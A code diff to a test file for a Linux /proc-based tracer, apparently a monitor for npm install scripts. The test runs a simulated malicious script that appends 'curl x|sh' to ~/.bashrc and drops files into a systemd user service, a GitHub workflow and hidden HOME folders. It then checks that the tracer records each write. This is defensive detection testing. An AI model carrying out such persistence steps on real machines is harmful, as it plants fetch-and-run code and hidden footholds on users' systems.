@@ -251,12 +251,20 @@ describe('ProcTracer on Linux /proc', { timeout: 30_000 }, () => {
 
   it('watches temp dirs, HOME drop zones and persistence paths that do not exist yet', async () => {
     const dir = packageDir(env, 'persist');
+    await tracer.ready(); // the temp dir's watch must be set before the script writes there
     const run = runScript(env, tracer, 'persist', dir, `echo x > "$TMPDIR/stage2"; echo 'curl x|sh' >> "$HOME/.bashrc"; mkdir -p "$HOME/.config/systemd/user"; sleep 0.1; echo u > "$HOME/.config/systemd/user/x.service"; mkdir -p ${env.project}/.github/workflows; sleep 0.1; echo w > ${env.project}/.github/workflows/ci.yml; mkdir -p "$HOME/.local/share/.x" "$HOME/.hid"; sleep 0.1; echo s > "$HOME/.local/share/.x/stage2"; echo h > "$HOME/.hid/run"; sleep 0.2; rm "$TMPDIR/stage2"; sleep 0.2`);
     await run.exited;
     await sleep(150);
     const paths = ofKind(of(env, 'persist'), 'file-write').map((e) => e.file.path);
-    // a shell's quick write to a shared temp dir: seen, but nobody is guessed
-    expect(ofKind(env.events, 'file-write').find((e) => e.file.path === join(env.tmp, 'stage2'))?.npm.script_id).toBe('');
+    // a shell's quick write to a shared temp dir: seen, but nobody is guessed.
+    // Only evidence names it: a poll that caught the writing shell (not the
+    // script's root, which a guess would name) with the file open.
+    const staged = ofKind(env.events, 'file-write').find((e) => e.file.path === join(env.tmp, 'stage2'));
+    expect(staged).toBeDefined();
+    if (staged?.npm.script_id !== '') {
+      expect(staged?.npm.script_id).toBe('persist');
+      expect(staged?.process.pid).not.toBe(run.script.shimPid);
+    }
     expect(paths).toEqual(expect.arrayContaining([join(env.home, '.bashrc'), join(env.home, '.config/systemd/user/x.service'), join(env.project, '.github/workflows/ci.yml'), join(env.home, '.local/share/.x/stage2'), join(env.home, '.hid/run')]));
     expect(env.events.some((e) => 'file' in e && e.file.path.startsWith(env.runDir))).toBe(false);
     // deletions in temp dirs are not reported (other programs' temp files could only be misblamed)
